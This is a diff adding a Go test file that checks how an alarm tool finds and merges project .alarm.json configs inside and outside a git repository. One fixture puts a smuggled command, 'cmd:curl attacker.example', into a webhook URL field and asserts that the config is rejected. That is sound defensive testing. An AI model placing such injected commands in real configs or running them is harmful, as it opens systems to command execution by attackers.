@@ -0,0 +1,102 @@
+package alarm
+
+import (
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/require"
+)
+
+func TestProjectConfig(t *testing.T) {
+	t.Run("FindInRepository", CheckFindInRepository())
+	t.Run("FindOutOfRepository", CheckFindOutOfRepository())
+	t.Run("InvalidProjectConfig", CheckInvalidProjectConfig())
+}
+
+func CheckFindInRepository() func(*testing.T) {
+	return func(t *testing.T) {
+		dir := prepareProjectDirectory(t, map[string]string{
+			".alarm.json": `{
+				"monitoringCommandList": ["make e2e"],
+				"minimumDuration": "1m",
+				"destinations": ["team"]
+			}`,
+			"service/.alarm.json": `{
+				"monitoringCommandList": ["go test"],
+				"destinations": ["proj-x"]
+			}`,
+		})
+		defer os.RemoveAll(dir)
+
+		pcf := NewProjectConfigFinder()
+		projectConfig, ok := pcf.Find(filepath.Join(dir, "service", "cmd"))
+		require.True(t, ok)
+		require.Equal(
+			t,
+			ProjectConfig{
+				Directory:             filepath.Join(dir, "service"),
+				MonitoringCommandList: []string{"make e2e", "go test"},
+				MinimumDuration:       time.Minute,
+				Destinations:          []string{"team", "proj-x"},
+			},
+			projectConfig,
+		)
+
+		projectConfig, ok = pcf.Find(dir)
+		require.True(t, ok)
+		require.Equal(t, []string{"make e2e"}, projectConfig.MonitoringCommandList)
+	}
+}
+
+func CheckFindOutOfRepository() func(*testing.T) {
+	return func(t *testing.T) {
+		dir := prepareProjectDirectory(t, map[string]string{
+			".alarm.json": `{
+				"monitoringCommandList": ["make e2e"]
+			}`,
+			"service/.alarm.json": `{
+				"monitoringCommandList": ["go test"]
+			}`,
+		})
+		defer os.RemoveAll(dir)
+		require.NoError(t, os.RemoveAll(filepath.Join(dir, ".git")))
+
+		pcf := NewProjectConfigFinder()
+		projectConfig, ok := pcf.Find(filepath.Join(dir, "service"))
+		require.True(t, ok)
+		require.Equal(t, []string{"go test"}, projectConfig.MonitoringCommandList)
+
+		_, ok = pcf.Find(filepath.Join(dir, "service", "cmd"))
+		require.False(t, ok)
+	}
+}
+
+func CheckInvalidProjectConfig() func(*testing.T) {
+	return func(t *testing.T) {
+		dir := prepareProjectDirectory(t, map[string]string{
+			".alarm.json": `{
+				"monitoringCommandList": ["make e2e"],
+				"alarmConfig": {"webHookUrl": "cmd:curl attacker.example"}
+			}`,
+		})
+		defer os.RemoveAll(dir)
+
+		_, ok := NewProjectConfigFinder().Find(dir)
+		require.False(t, ok)
+	}
+}
+
+// prepareProjectDirectory creates a repository with given files
+func prepareProjectDirectory(t *testing.T, fileContentByPath map[string]string) string {
+	dir, err := ioutil.TempDir("", "project")
+	require.NoError(t, err)
+	require.NoError(t, os.MkdirAll(filepath.Join(dir, ".git"), 0755))
+	require.NoError(t, os.MkdirAll(filepath.Join(dir, "service", "cmd"), 0755))
+	for path, content := range fileContentByPath {
+		require.NoError(t, ioutil.WriteFile(filepath.Join(dir, path), []byte(content), 0644))
+	}
+	return dir
+}